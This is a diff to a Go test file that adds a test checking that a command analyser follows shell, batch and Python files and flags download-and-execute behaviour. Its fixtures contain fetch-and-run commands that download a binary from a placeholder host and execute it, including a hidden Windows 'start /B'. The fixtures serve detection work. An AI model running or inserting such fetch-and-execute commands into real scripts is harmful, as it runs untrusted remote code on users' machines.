@@ -165,6 +165,26 @@ func TestPartlyKnown(t *testing.T) {
 	}
 }
 
+// TestFiles follows commands into the files of a package.
+func TestFiles(t *testing.T) {
+	files := map[string]string{
+		"run.sh": "curl -o x http://load.invalid/x\n./x $1\n", "pre.bat": "curl http://load.invalid/y.exe -o y.exe\r\nstart /B y.exe\r\n",
+		"a.py": "import os\nos.system('./run.sh')\n",
+	}
+	src := source("/bin/bash run.sh now; cmd.exe /c pre.bat; python3 ./a.py")
+	src.Files = func(p string) ([]byte, bool) { s, ok := files[p]; return []byte(s), ok }
+	tr, _, _ := reader(t).Read(src)
+	n := 0
+	for i := range tr.Calls {
+		if slices.Contains(tr.Calls[i].Types, "SHELL_DOWNLOAD_EXECUTE") {
+			n++
+		}
+	}
+	if n != 3 {
+		t.Errorf("%d downloads run, want 3\n%s", n, compact(tr, nil, report.Outcome{}))
+	}
+}
+
 func TestUnknownCommand(t *testing.T) {
 	tr, _, _ := reader(t).Read(shell.Source{Text: callseq.Value{Kind: callseq.Unknown, Source: "x", Flows: []callseq.Flow{{From: -3, Via: callseq.Copy}}}})
 	if len(tr.Calls) != 1 || !slices.Contains(tr.Calls[0].Types, "PROCESS_COMMAND_EXECUTION") {
